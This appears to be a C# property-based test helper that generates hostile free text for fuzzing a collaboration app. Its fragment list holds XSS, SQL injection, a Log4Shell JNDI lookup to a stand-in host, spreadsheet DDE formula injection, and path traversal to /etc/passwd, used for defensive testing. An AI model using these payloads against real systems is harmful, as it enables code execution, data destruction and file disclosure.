using System.Text;
using CsCheck;

namespace Collaboration.Tests.Hostile;

/// <summary>Free text as attackers and real people write it: script, SQL, formulas, control characters, scripts of the world.</summary>
public static class HostileText
{
    public static readonly string[] Fragments =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE events; --", "' OR '1'='1",
        "1; SELECT * FROM event_ledger", "${jndi:ldap://evil/a}", "{{7*7}}", "=HYPERLINK(\"http://x\")", "+cmd|' /C calc'!A0",
        "@SUM(1)", "-1", "../../etc/passwd", "%00", "%s%n", "\u0000", "\u001b[31m", "\r\n", "\t", "\u2028", "\u202E",
        "\u200B", "\uFEFF", "e\u0301", "💡", "🇫🇮", "Ä", "日本語", "עברית", "null", "NaN", "\\", "\"", ",", " ", "Solar roofs",
    ];

    /// <summary>1 to <paramref name="maxCharacters"/> Unicode characters (never a lone surrogate).</summary>
    public static Gen<string> Text(int maxCharacters) =>
        Gen.OneOf(Fragments).Array[1, 8].Select(parts => Clip(string.Concat(parts), maxCharacters));

    public static string Clip(string text, int maxCharacters) =>
        string.Concat(text.EnumerateRunes().Take(maxCharacters).Select(rune => rune.ToString()));

    /// <summary>Exactly <paramref name="characters"/> characters, mixing ones of one and two UTF-16 units.</summary>
    public static string OfLength(int characters) =>
        string.Concat(Enumerable.Range(0, characters).Select(i => i % 3 == 0 ? "💡" : "a"));

    public static int Length(string text) => text.EnumerateRunes().Count();

    public static string Utf8(byte[] bytes) => Encoding.UTF8.GetString(bytes);
}
